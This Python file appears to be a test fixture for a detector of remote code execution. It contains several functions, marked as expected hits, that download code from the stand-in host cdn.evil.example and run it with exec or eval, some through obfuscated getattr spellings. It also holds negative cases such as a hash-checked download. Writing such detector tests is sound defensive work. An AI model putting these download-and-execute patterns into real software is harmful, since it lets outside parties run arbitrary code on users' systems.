import hashlib
import importlib.util
import urllib.request
from urllib.request import urlopen

import requests

DIGEST = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"


def update():
    exec(requests.get("https://cdn.evil.example/u.py").text)  # expect: hit


def update_too():
    code = urllib.request.urlopen("https://cdn.evil.example/u.py").read().decode()
    exec(compile(code, "u", "exec"))  # expect: hit


def other_spellings():
    r = getattr(requests, "g" + "et")("https://cdn.evil.example/" + "u.py")
    getattr(__builtins__, "ev" + "al")(r.content)  # expect: hit


def fetch(address):
    with urlopen(address) as answer:
        return answer.read()


def run(text):
    eval(text)  # expect: hit


run(fetch("https://cdn.evil.example/x"))


def in_container():
    box = {"code": requests.get("https://cdn.evil.example/u.py").json()["code"]}
    exec(box["code"], {})  # expect: hit


def checked():
    code = requests.get("https://cdn.evil.example/u.py").content
    if hashlib.sha256(code).hexdigest() != DIGEST:
        raise ValueError("changed")
    exec(code)


def data():
    return requests.get("https://api.evil.example/v1").json()["value"]


def plugin(path):
    spec = importlib.util.spec_from_file_location("plugin", path)
    return importlib.util.module_from_spec(spec)
